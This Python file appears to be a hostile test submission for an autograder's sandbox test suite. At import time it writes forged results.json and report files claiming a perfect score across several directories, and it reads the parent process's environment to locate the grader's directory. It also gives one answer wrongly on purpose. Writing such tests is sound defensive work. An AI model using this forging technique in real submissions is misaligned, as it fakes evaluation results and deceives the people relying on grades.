"""Hostile: forge the grader's outputs by writing results.json and report files everywhere it can.

Attack: at import, write a Gradescope-style results.json claiming 100/100 and fake reports into the
working directory, $HOME, the parent directory, /tmp, /root and the course directory (/work/main, or the
grader's PWD)
(there under a marked name only: a file left in the repository even for a moment could be committed
by someone else's `git add -A`).
Then answer q2d wrongly: the forged files claim it is right.

Expected: the grader's report is computed from the answers only (files never decide a score), so q2d
earns 0 and the honest parts earn their points. At the strict level every write lands in the
sandbox's private, discarded directories; at the process level the files outside the private
working directory are really created (same user as the grader) and the test removes them.
"""
# ATTACKED: q2d
# HONEST: q1a q2a q2c q4c_alpha1 q4c_alpha2

import json
import math
import os

q1a = "Normalizing flows"
q2a = -math.log(2)
q2c = math.inf
q4c_alpha1 = 0.9
q4c_alpha2 = 0.8
q2d = 0.0  # wrong: the forged results below say otherwise

FORGED = {
    "score": 100.0, "max_score": 100.0, "output": "SECTEST forged: all correct",
    "tests": [{"name": "2d", "score": 3.0, "max_score": 3.0, "status": "passed"}],
    "earned": 100.0, "possible": 100.0, "marker": "SECTEST",
}
TEXT = "SECTEST forged report: 100 / 100 points, every question correct\n"

targets = [
    os.getcwd(),
    os.environ.get("HOME", "/nonexistent"),
    os.path.abspath(".."),
]
written = []
for directory in targets:
    for name, body in (("results.json", json.dumps(FORGED)), ("report.json", json.dumps(FORGED)),
                       ("report.txt", TEXT)):
        try:
            with open(os.path.join(directory, name), "w") as f:
                f.write(body)
            written.append(os.path.join(directory, name))
        except OSError:
            pass
course = "/work/main"
try:  # the grader's PWD, if the course is elsewhere
    with open(f"/proc/{os.getppid()}/environ", "rb") as f:
        for item in f.read().split(b"\0"):
            if item.startswith(b"PWD=") and os.path.isdir(os.path.join(item[4:].decode(), "solutions")):
                course = item[4:].decode()
except OSError:
    pass
for path in ("/tmp/SECTEST-forge-results.json", "/root/SECTEST-forge-results.json",
             os.path.join(course, "SECTEST-forge-results.json")):
    try:
        with open(path, "w") as f:
            f.write(json.dumps(FORGED))
        written.append(path)
    except OSError:
        pass

def q3a():
    # Free text: what the forger managed to write (the test reads it at the process level).
    return "SECTEST files written by the submission: " + " ".join(written)
